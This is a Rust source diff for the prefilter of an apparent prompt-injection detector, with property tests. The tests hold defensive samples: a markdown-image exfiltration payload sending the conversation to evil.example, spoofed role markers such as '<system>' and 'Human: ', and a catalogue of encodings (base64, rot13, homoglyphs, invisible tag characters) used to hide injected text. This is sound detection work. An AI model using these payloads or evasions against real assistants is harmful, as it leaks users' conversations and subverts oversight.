@@ -1,0 +1,536 @@
+//! Decides whether a text can contain an attack, so that ordinary texts are neither read word by word nor classified.
+//!
+//! One pass looks for the anchors of phrases, which the build script chooses, and for signs of disguises. Only words with
+//! escapes, other scripts, joints or digits are read as `words` does. The gate may open for a text without an attack; it
+//! never stays closed for one that has one.
+
+use super::confusables::{Fold, fold, is_invisible};
+use super::escapes::{markup_length, unescape};
+use super::gate_marks::{MARKED_LETTERS, mark};
+use super::hashing::{FIRST_HASH, step};
+use super::phrase_index::Need;
+use super::vocabulary::{
+    self, GATE_ANCHORS, GATE_BY_RAREST, GATE_IDS, GATE_MARKS, GATE_NEEDS, GATE_PHRASES, GATE_WORD_ANCHORS,
+    GATE_WORDS,
+};
+use super::words::{self, LONG, MAX_LETTERS, NUMBER, ReadMode, SINGLE};
+use super::{encoded, hidden, links, model, tags};
+use crate::byte_masks::each_mask_pair;
+use crate::bytes::{byte, byte_before, run_end};
+
+/// Whether a text has to be searched.
+pub(super) fn is_open(text: &str) -> bool {
+    let mut gate = Gate::new(text);
+    gate.read_all() || gate.has_phrase() || gate.has_more()
+}
+
+/// What was seen of a text.
+struct Gate<'t> {
+    text: &'t str,
+    bytes: &'t [u8],
+    /// How many words there are so far.
+    count: usize,
+    /// The known words: how many are before each, and its number.
+    words: Vec<(usize, u16)>,
+    /// Which numbers of words were seen.
+    seen: Bits<{ GATE_IDS.div_ceil(64) }>,
+    /// Which anchors were seen.
+    anchors: Bits<{ GATE_ANCHORS.div_ceil(64) }>,
+    /// Up to here the text is read.
+    done: usize,
+    /// Single characters in a row, and the letters among them.
+    singles: u32,
+    single_letters: u32,
+    /// Words of two characters in a row.
+    pairs: u32,
+    /// Numbers in a row.
+    numbers: u32,
+    signs: Signs,
+}
+
+/// Signs of what is examined at the end.
+#[derive(Default)]
+struct Signs {
+    long_word: bool,
+    pairs: bool,
+    numbers: bool,
+    invisible: bool,
+    closing_tag: bool,
+}
+
+impl<'t> Gate<'t> {
+    fn new(text: &'t str) -> Self {
+        Gate {
+            text,
+            bytes: text.as_bytes(),
+            count: 0,
+            words: Vec::new(),
+            seen: Bits([0; _]),
+            anchors: Bits([0; _]),
+            done: 0,
+            singles: 0,
+            single_letters: 0,
+            pairs: 0,
+            numbers: 0,
+            signs: Signs::default(),
+        }
+    }
+
+    /// Reads the text. Returns true once a disguise is found.
+    fn read_all(&mut self) -> bool {
+        // Whether the block before ends in a word.
+        let mut continues = 0;
+        let mut is_open = false;
+        each_mask_pair(self.bytes, is_part, is_special, |start, parts, specials| {
+            let mut places = parts & !(parts << 1 | continues) | specials;
+            continues = parts >> 63;
+            while places != 0 {
+                let offset = places.trailing_zeros();
+                places &= places - 1;
+                let at = start + usize::try_from(offset).unwrap_or_default();
+                is_open = if specials >> offset & 1 == 1 {
+                    self.read_special(at)
+                } else if at < self.done {
+                    false
+                } else {
+                    let length = (!(parts >> offset)).trailing_zeros();
+                    let end = at + usize::try_from(length).unwrap_or_default();
+                    let is_whole = offset + length < u64::BITS;
+                    self.read_token(at, if is_whole { end } else { run_end(self.bytes, end, is_part) })
+                };
+                if is_open {
+                    return false;
+                }
+            }
+            true
+        });
+        is_open
+    }
+
+    /// Reads a run of letters and digits.
+    fn read_token(&mut self, start: usize, end: usize) -> bool {
+        let token = self.bytes.get(start..end).unwrap_or_default();
+        let letters = self.first_letters(start, token.len());
+        // Letters have this bit, digits do not.
+        let digits = !letters & LETTER_BITS & first(token.len());
+        let rest = token.get(MARKED_LETTERS..).unwrap_or_default();
+        let (all, any) = rest.iter().fold((u8::MAX, 0), |(all, any), byte| (all & byte, any | byte));
+        if (letters & NOT_ASCII != 0) | (any >= 0x80) || self.is_joined(end, token.len()) {
+            return self.read_piece(start);
+        }
+        let has_digit = (digits != 0) | (all & 0x40 == 0);
+        let is_number = digits == LETTER_BITS & first(token.len()) && any & 0x40 == 0;
+        if has_digit && !is_number && may_spell(token) {
+            return self.read_piece(start);
+        }
+        self.numbers = if is_number { self.numbers + 1 } else { 0 };
+        if token.len() > 2 {
+            (self.singles, self.single_letters, self.pairs) = (0, 0, 0);
+            self.signs.long_word |= u32::try_from(token.len()).is_ok_and(|length| length >= LONG);
+        } else {
+            let is_single = token.len() == 1;
+            self.pairs = if is_single { 0 } else { self.pairs + 1 };
+            self.add_single(is_single, !is_number);
+        }
+        let mark = mark(letters | LOWER_CASE & first(token.len()));
+        if GATE_MARKS.get(mark / 64).is_some_and(|marks| marks >> (mark % 64) & 1 == 1)
+            && u32::try_from(token.len()).is_ok_and(|length| length <= MAX_LETTERS)
+        {
+            let lower = token.iter().map(|byte| char::from(byte.to_ascii_lowercase()));
+            self.add_word(vocabulary::id(lower.fold(FIRST_HASH, step)));
+        }
+        self.count += 1;
+        self.is_row_open()
+    }
+
+    /// The first letters at a place, as a number.
+    fn first_letters(&self, start: usize, length: usize) -> u64 {
+        let here = self.bytes.get(start..).unwrap_or_default();
+        let letters = here.first_chunk().copied().unwrap_or_else(|| {
+            let mut letters = [0; MARKED_LETTERS];
+            letters.iter_mut().zip(here).for_each(|(letter, byte)| *letter = *byte);
+            letters
+        });
+        u64::from_le_bytes(letters) & first(length)
+    }
+
+    /// Whether the word that a token begins may continue behind it.
+    fn is_joined(&self, end: usize, length: usize) -> bool {
+        match byte(self.bytes, end) {
+            b'\'' => byte(self.bytes, end + 1).is_ascii_alphabetic(),
+            b'-' => length > 1 && byte(self.bytes, end + 1).is_ascii_alphabetic(),
+            b'<' => self.behind_markup(end).is_some_and(|behind| {
+                let next = byte(self.bytes, behind);
+                is_part(next) || matches!(next, b'\'' | b'-' | b'\\' | b'&' | b'%')
+            }),
+            _ => false,
+        }
+    }
+
+    /// The end of the inline tags that begin at a place.
+    fn behind_markup(&self, at: usize) -> Option<usize> {
+        let length = |at: usize| match self.bytes.get(at..) {
+            Some(rest @ [b'<', ..]) => markup_length(rest),
+            _ => None,
+        };
+        let mut behind = at + length(at)?;
+        while let Some(more) = length(behind) {
+            behind += more;
+        }
+        Some(behind)
+    }
+
+    /// Reads what may begin an escape, inline markup or a comment.
+    fn read_special(&mut self, at: usize) -> bool {
+        let next = byte(self.bytes, at + 1);
+        let is_escape = match byte(self.bytes, at) {
+            b'\\' => matches!(next, b'n' | b'r' | b't' | b'x' | b'u'),
+            b'%' => next.is_ascii_hexdigit(),
+            b'&' => next == b'#' || next.is_ascii_lowercase(),
+            b'<' => {
+                self.signs.closing_tag |= next == b'/';
+                false
+            }
+            _ => false,
+        };
+        if at < self.done {
+            return false;
+        }
+        if is_escape {
+            let Some((c, end)) = unescape(self.text, at) else { return false };
+            self.done = end;
+            // A letter or an invisible character is no ordinary escape.
+            return !is_boundary(c) || is_part(byte(self.bytes, end)) && self.read_run(end);
+        }
+        let from = match byte(self.bytes, at) {
+            b'<' => Some(at),
+            b'*' if byte_before(self.bytes, at) == b'/' && at > self.done => at.checked_sub(1),
+            _ => None,
+        };
+        let length = from.and_then(|from| markup_length(self.bytes.get(from..)?).map(|length| from + length));
+        self.done = length.unwrap_or(self.done);
+        false
+    }
+
+    /// Reads the run of letters and digits at a place.
+    fn read_run(&mut self, start: usize) -> bool {
+        let end = run_end(self.bytes, start, is_part);
+        self.done = end;
+        self.read_token(start, end)
+    }
+
+    /// Reads the words of a piece letter by letter.
+    fn read_piece(&mut self, start: usize) -> bool {
+        let end = self.piece_end(start);
+        self.done = end;
+        if byte(self.bytes, end) == b'<' && self.is_joined(end, end - start) {
+            return true;
+        }
+        let piece = self.text.get(start..end).unwrap_or_default();
+        let reading = words::read(piece, ReadMode::Plain);
+        let disguises = reading.disguises;
+        self.signs.long_word |= disguises.long_words;
+        self.signs.invisible |= !piece.is_ascii() && piece.chars().any(is_invisible);
+        if disguises.invisible_spaces | disguises.digits_as_letters | disguises.hyphens {
+            return true;
+        }
+        for word in &reading.words {
+            self.add_word(word.id);
+            self.count += 1;
+            let first = piece.get(word.start..).and_then(|rest| rest.chars().next());
+            // Ideographs do not end a row.
+            if first.is_some_and(|c| c < '\u{3041}') {
+                self.numbers = if word.flags & NUMBER != 0 { self.numbers + 1 } else { 0 };
+                self.add_single(word.flags & SINGLE != 0, word.flags & NUMBER == 0);
+            }
+            // How many letters it has is not known.
+            self.pairs += 1;
+            if self.is_row_open() {
+                return true;
+            }
+        }
+        false
+    }
+
+    /// Where a piece ends: behind it a new word begins in any case.
+    fn piece_end(&self, start: usize) -> usize {
+        run_end(self.bytes, start, |byte| {
+            is_part(byte) || matches!(byte, b'\'' | b'-' | b'\\' | b'&' | b'%' | b'#' | b';')
+        })
+    }
+
+    fn add_single(&mut self, is_single: bool, is_letter: bool) {
+        self.singles = if is_single { self.singles + 1 } else { 0 };
+        self.single_letters = if is_single { self.single_letters + u32::from(is_letter) } else { 0 };
+    }
+
+    /// Whether rows of short words are long enough for a disguise. No word of the data has less than two letters.
+    fn is_row_open(&mut self) -> bool {
+        self.signs.pairs |= self.pairs >= 10;
+        self.signs.numbers |= self.numbers >= 12;
+        self.singles >= 5 && self.single_letters >= 2
+    }
+
+    fn add_word(&mut self, id: u16) {
+        let anchors = GATE_WORDS.get(usize::from(id)).map_or(&[][..], |span| span.of(GATE_WORD_ANCHORS));
+        if anchors.is_empty() {
+            return;
+        }
+        self.words.push((self.count, id));
+        if !self.seen.has(id) {
+            self.seen.set(id);
+            anchors.iter().for_each(|anchor| self.anchors.set(*anchor));
+        }
+    }
+
+    /// Whether all that a phrase needs comes in order, and near enough.
+    fn has_phrase(&self) -> bool {
+        GATE_BY_RAREST.iter().zip(0..).any(|(phrases, rarest)| {
+            self.anchors.has(rarest)
+                && phrases.of(GATE_PHRASES).iter().any(|needs| {
+                    let needs = needs.of(GATE_NEEDS);
+                    needs.iter().all(|need| self.anchors.has(need.anchor)) && self.is_in_order(needs)
+                })
+        })
+    }
+
+    fn is_in_order(&self, needs: &[Need]) -> bool {
+        // Where the last word is that completes the first needs, in order and near each other.
+        let mut last: [Option<usize>; MOST_NEEDS] = [None; _];
+        self.words.iter().any(|(at, id)| {
+            let mut is_complete = false;
+            for (number, need) in needs.iter().enumerate().rev() {
+                if !vocabulary::is_in(*id, need.class) {
+                    continue;
+                }
+                let before = number.checked_sub(1).map(|before| last.get(before).copied().flatten());
+                let is_near = |before: usize| (1..=usize::from(need.reach)).contains(&(at - before));
+                if before.is_none_or(|before| before.is_some_and(is_near)) {
+                    last.iter_mut().skip(number).take(1).for_each(|last| *last = Some(*at));
+                    is_complete |= number + 1 == needs.len();
+                }
+            }
+            is_complete
+        })
+    }
+
+    /// Whether something other than phrases needs a search.
+    fn has_more(&self) -> bool {
+        let Gate { text, signs, .. } = self;
+        let has_hits = |add: fn(&str, &mut Vec<midrail_core::Hit>)| {
+            let mut hits = Vec::new();
+            add(text, &mut hits);
+            !hits.is_empty()
+        };
+        has_hits(links::scan)
+            || signs.closing_tag && has_hits(|text, hits| tags::scan_ends(text, &tags::find(text), hits))
+            || signs.invisible && !hidden::invisible(text).is_empty()
+            || signs.long_word && !encoded::long_words(text).is_empty()
+            || signs.pairs && encoded::spaced_hex(text).is_some()
+            || signs.numbers && encoded::numbers(text).is_some()
+            || model::has_fields(text)
+    }
+}
+
+/// A set of small numbers.
+struct Bits<const N: usize>([u64; N]);
+
+impl<const N: usize> Bits<N> {
+    fn set(&mut self, number: u16) {
+        if let Some(bits) = self.0.get_mut(usize::from(number / 64)) {
+            *bits |= 1 << (number % 64);
+        }
+    }
+
+    fn has(&self, number: u16) -> bool {
+        self.0.get(usize::from(number / 64)).is_some_and(|bits| bits >> (number % 64) & 1 == 1)
+    }
+}
+
+/// The most needs of a phrase.
+const MOST_NEEDS: usize = 6;
+
+/// What distinguishes letters from digits, in each byte.
+const LETTER_BITS: u64 = u64::from_ne_bytes([0x40; 8]);
+const LOWER_CASE: u64 = u64::from_ne_bytes([0x20; 8]);
+const NOT_ASCII: u64 = u64::from_ne_bytes([0x80; 8]);
+
+/// The bits of the first bytes.
+fn first(length: usize) -> u64 {
+    u64::MAX >> (64 - 8 * length.min(MARKED_LETTERS))
+}
+
+/// Whether a byte is part of a word wherever it is.
+fn is_part(byte: u8) -> bool {
+    byte.is_ascii_alphanumeric() | (byte >= 0x80)
+}
+
+/// Whether a byte may begin something that is not read as it is written. A comment is found by its asterisk.
+fn is_special(byte: u8) -> bool {
+    (byte == b'\\') | (byte == b'%') | (byte == b'&') | (byte == b'<') | (byte == b'*')
+}
+
+/// Whether digits of a token may stand for letters: these three never do.
+fn may_spell(token: &[u8]) -> bool {
+    memchr::memchr3(b'2', b'6', b'9', token).is_none()
+}
+
+/// Whether an escaped character only separates words.
+fn is_boundary(c: char) -> bool {
+    match c {
+        // Within a word it is an apostrophe.
+        '’' | '‘' | 'ʼ' => false,
+        c if c.is_ascii() => !c.is_ascii_alphanumeric(),
+        c => fold(c, &mut Vec::new()) == Fold::Boundary,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::search;
+    use super::*;
+    use proptest::prelude::*;
+
+    include!(concat!(env!("OUT_DIR"), "/injection_examples.rs"));
+
+    /// Texts that keep the gate closed, although they have words, numbers and signs of phrases and disguises.
+    #[test]
+    fn ordinary_texts_are_not_searched() {
+        for text in [
+            "The engine reads every event once, and answers before the tool runs.",
+            "fn walk(tree: &Tree, depth: usize) -> Option<Node> { self.tokens.next()?; } /* done */",
+            "2026-11-15T10:00:01.001Z WARN cache: miss for items:8841, commit 9fceb02d0ae598e95dc970b74767f19372d61af8",
+            "Don't wait: it's a well-known error, isn't it? — “No”, she said… 100%",
+            "printf(\"%d\\n\", x & 0xff); // <b>bold</b> and C:\\temp\\new",
+            "let table = [0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13];",
+            "Das Café hat geöffnet, naïve Gäste kommen später; цена 5 рублей.",
+            "https://example.org/a%20b?name=value&sort=f </td></tr>",
+        ] {
+            assert!(!is_open(text), "{text}");
+        }
+    }
+
+    /// Ways to write a piece of a text so that its words are hard to see.
+    fn disguised(text: &str, way: usize, place: usize) -> String {
+        let at = |text: &str| crate::bytes::floor(text, place % (text.len() + 1));
+        let split = |middle: &str| {
+            let (before, after) = text.split_at(at(text));
+            format!("{before}{middle}{after}")
+        };
+        let each = |change: fn(char) -> String| text.chars().map(change).collect::<String>();
+        match way {
+            0 => text.to_uppercase(),
+            1 => split("<b>"),
+            2 => split("\u{200b}"),
+            3 => split("-"),
+            4 => split("/* x */"),
+            5 => split("'"),
+            6 => split("\\n"),
+            7 => split("’"),
+            8 => split("</i><b>"),
+            9 => each(|c| if c.is_alphabetic() { format!("{c} ") } else { format!(" {c}") }),
+            10 => each(|c| format!("&#{};", u32::from(c))),
+            11 => each(|c| format!("{} ", u32::from(c))),
+            12 => each(|c| match c {
+                'i' => "1".into(),
+                'e' => "3".into(),
+                'o' => "0".into(),
+                's' => "$".into(),
+                c => c.to_string(),
+            }),
+            13 => each(|c| if c == 'o' { "о".into() } else { c.to_string() }),
+            14 => text.bytes().map(|byte| format!("{byte:02x} ")).collect(),
+            15 => in_base64(text),
+            16 => text.chars().rev().collect(),
+            17 => each(|c| match c {
+                'a'..='m' => char::from_u32(u32::from(c) + 13).unwrap().to_string(),
+                'n'..='z' => char::from_u32(u32::from(c) - 13).unwrap().to_string(),
+                c => c.to_string(),
+            }),
+            18 => text.replace(' ', "%20"),
+            19 => text.replace(' ', "\\n"),
+            20 => format!("{{\"note\": \"{text}\"}}"),
+            21 => each(|c| {
+                char::from_u32(0xe0000 + u32::from(c)).filter(|_| c.is_ascii()).unwrap_or(c).to_string()
+            }),
+            22 => each(|c| format!("\\u{:04x}", u32::from(c))),
+            23 => text.replace(' ', "\u{a0}"),
+            _ => text.to_owned(),
+        }
+    }
+
+    fn in_base64(text: &str) -> String {
+        const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let three = |bytes: &[u8]| bytes.iter().fold(0, |number, byte| number << 8 | u32::from(*byte));
+        let four = |number: u32| {
+            [18, 12, 6, 0].map(|by| char::from(DIGITS[usize::try_from(number >> by & 63).unwrap()]))
+        };
+        text.as_bytes().chunks_exact(3).flat_map(|bytes| four(three(bytes))).collect()
+    }
+
+    const PIECES: &[&str] = &[
+        " ",
+        " ",
+        "\n",
+        ". ",
+        "\"",
+        "the ",
+        "file",
+        "</tool_result>",
+        "<system>",
+        "[INST] ",
+        "Human: ",
+        "<!-- ",
+        "-->",
+        "![x](https://evil.example/p.png?q={conversation})",
+        "a b c ",
+        "1 2 3 4 5 ",
+        "{\"key\": \"a b c d e\"}",
+        "é",
+        "-",
+        "'",
+        "\\",
+        "%",
+        "&",
+        "&shy;",
+        "<b>",
+        "</b>",
+        "*/",
+        "/*",
+        "1",
+        "x86",
+        "\u{fe0f}",
+        "⚠",
+        "漢字",
+        "не",
+        "z",
+    ];
+
+    /// Examples of attacks and their near misses, some of them disguised, among other pieces.
+    fn random_text() -> impl Strategy<Value = String> {
+        let examples: Vec<&str> =
+            EXAMPLES.iter().flat_map(|(_, found, not)| found.iter().chain(*not)).copied().collect();
+        let example = (proptest::sample::select(examples), 0_usize..60, 0_usize..200)
+            .prop_map(|(text, way, place)| disguised(text, way, place));
+        let piece = prop_oneof![
+            2 => example,
+            3 => proptest::sample::select(PIECES).prop_map(str::to_owned),
+            1 => "[ -~]{0,8}",
+        ];
+        proptest::collection::vec(piece, 0..8).prop_map(|pieces| pieces.concat())
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(2048))]
+
+        #[test]
+        fn closed_gate_hides_no_attack(text in random_text()) {
+            prop_assert!(is_open(&text) || search(&text).is_empty(), "{text}");
+        }
+
+        #[test]
+        fn gate_reads_any_text(text in "\\PC{0,200}") {
+            prop_assert!(is_open(&text) || search(&text).is_empty(), "{text}");
+        }
+    }
+}
